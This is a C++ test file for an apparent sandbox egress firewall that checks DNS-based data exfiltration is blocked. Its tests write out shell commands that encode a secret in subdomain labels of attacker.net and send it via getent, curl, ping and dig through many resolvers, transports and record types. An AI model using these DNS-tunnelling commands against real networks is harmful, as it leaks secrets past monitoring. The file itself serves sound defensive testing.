// The attack: secrets are carried out in host names, to the machine's resolver, a resolver of the
// attacker's choice, over UDP or TCP, in any record type; or the answers are used to reach other
// places. What must stop it: all of port 53 ends at our own resolver, which answers from the policy
// and forwards nothing (helpers/egress-proxy); names are decided before they are looked up.
#include "attack/attack.hpp"

namespace awf::attack {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

using DnsAttack = Attack;

INSTANTIATE_TEST_SUITE_P(Callers, DnsAttack, testing::Values(Caller::kRoot, Caller::kRootless),
                         caller_name);

TEST_P(DnsAttack, DNS_01_and_DNS_14_data_in_the_labels_of_a_denied_name_never_leaves) {
  const auto result = run_shell(
      "getent ahosts c2VjcmV0.attacker.net; echo getent=$?;"
      "curl -sS -m 5 https://c2VjcmV0.attacker.net/; echo curl=$?;"
      "curl -sS -m 5 --noproxy '*' https://c2VjcmV0.attacker.net/; echo direct=$?;"
      "curl -sS -m 5 http://c2VjcmV0.attacker.net/; "
      "ping -c 1 -W 1 c2VjcmV0.attacker.net; true");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("getent=2"));
  EXPECT_THAT(result.output, HasSubstr("curl=56"));
  EXPECT_THAT(result.output, HasSubstr("direct=6"));
  EXPECT_THAT(world.dns_queries(), IsEmpty());
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(DnsAttack, DNS_02_the_same_over_tcp_is_answered_here) {
  const auto result = run_shell(
      "dig +tcp +tries=1 +time=3 c2VjcmV0.attacker.net | grep status;"
      "dig +tcp +tries=1 +time=3 @9.9.9.9 c2VjcmV0.attacker.net TXT | grep status");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("NXDOMAIN"));
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(DnsAttack, DNS_06_every_resolver_the_command_can_name_is_ours) {
  const auto result = run_shell(
      "for s in 8.8.8.8 1.1.1.1 168.63.129.16 192.5.6.30 127.0.0.11 127.0.0.53 2001:503:a83e::30; "
      "do "
      "for t in +notcp +tcp; do dig $t +tries=1 +time=3 @$s c2VjcmV0.attacker.net | "
      "grep -o 'status: [A-Z]*' || echo none; done; done");
  EXPECT_EQ(result.exit_code, 0) << result;
  std::size_t answers = 0;
  for (auto at = result.output.find("NXDOMAIN"); at != std::string::npos;
       at = result.output.find("NXDOMAIN", at + 1)) {
    ++answers;
  }
  EXPECT_EQ(answers, 14U) << result;
  EXPECT_THAT(world.dns_queries(), IsEmpty());
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(DnsAttack, DNS_10_no_record_type_class_or_opcode_carries_a_denied_name_out) {
  const auto result = run_shell(
      "for t in TXT NULL ANY MX SRV NAPTR SVCB HTTPS CAA PTR NS SOA CNAME DS; do "
      "dig +tries=1 +time=3 c2VjcmV0.attacker.net $t | grep -o 'status: [A-Z]*'; "
      "dig +tries=1 +time=3 example.org $t | grep -o 'status: [A-Z]*'; done;"
      "dig +tries=1 +time=3 CH TXT version.bind | grep -o 'status: [A-Z]*';"
      "dig +tries=1 +time=3 +opcode=NOTIFY example.org | grep -o 'status: [A-Z]*';"
      "dig +tries=1 +time=3 +cookie=0011223344556677 +padding=400 x.attacker.net | "
      "grep -o 'status: [A-Z]*'; dig +short example.org HTTPS; echo end");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, HasSubstr("NXDOMAIN"));
  EXPECT_THAT(result.output, Not(HasSubstr("SERVFAIL")));
  EXPECT_THAT(world.dns_queries(), IsEmpty());
  EXPECT_THAT(world.packets(), IsEmpty());
}

TEST_P(DnsAttack, DNS_20_a_denied_name_is_a_clear_local_error_not_a_sinkhole) {
  const auto result =
      run_shell("dig +tries=1 +time=3 denied.org; curl -sS --noproxy '*' https://denied.org");
  EXPECT_EQ(result.exit_code, 6) << result;
  EXPECT_THAT(result.output, HasSubstr("status: NXDOMAIN"));
  EXPECT_THAT(result.output, HasSubstr("EDE: 15"));
  EXPECT_THAT(result.output, Not(HasSubstr("ANSWER SECTION")));
  EXPECT_THAT(result.errors, HasSubstr("Could not resolve host"));
}

TEST_P(DnsAttack, DNS_11_an_alias_of_a_denied_name_is_judged_by_the_name_that_was_asked) {
  const auto result =
      run_shell("curl -sSk -m 5 https://cname.example.org/; curl -sS -m 5 https://attacker.net/");
  EXPECT_EQ(result.exit_code, 56) << result;
  EXPECT_THAT(result.errors, HasSubstr("attacker.net:443"));
  for (const auto& request : world.web_requests())
    EXPECT_NE(request.host, "attacker.net");
}

TEST_P(DnsAttack,
       DNS_09_a_lookup_under_an_allowed_wildcard_asks_nobody_until_a_connection_is_made) {
  const auto result = run_shell(
      "for i in $(seq 50); do getent ahosts d$i.c2VjcmV0.example.org >/dev/null || exit 3; done",
      "*.example.org");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(world.dns_queries(), IsEmpty());
}

// Each connection tells the domain's owner a name. That is what the entry allows, but it is said.
TEST_P(DnsAttack, DNS_09_names_made_to_carry_data_are_told_to_the_user) {
  const auto fetch = [this](const std::string& names) {
    return run_shell(
        "x=$(printf 'c2VjcmV0%.0s' 1 2 3 4 5 6 7); for i in $(seq 30); do curl -s -m 5 "
        "http://" +
            names + ".example.org/ >/dev/null; done; echo done",
        "*.example.org");
  };
  const auto carrying = fetch("$i.$x.$x.$x");
  EXPECT_EQ(carrying.output, "done\n") << carrying;
  EXPECT_THAT(carrying.errors, HasSubstr("carry data to the domain's owner"));
  const auto usual = fetch("shard$i");
  EXPECT_EQ(usual.output, "done\n") << usual;
  EXPECT_THAT(usual.errors, Not(HasSubstr("carry data")));
}

}  // namespace
}  // namespace awf::attack
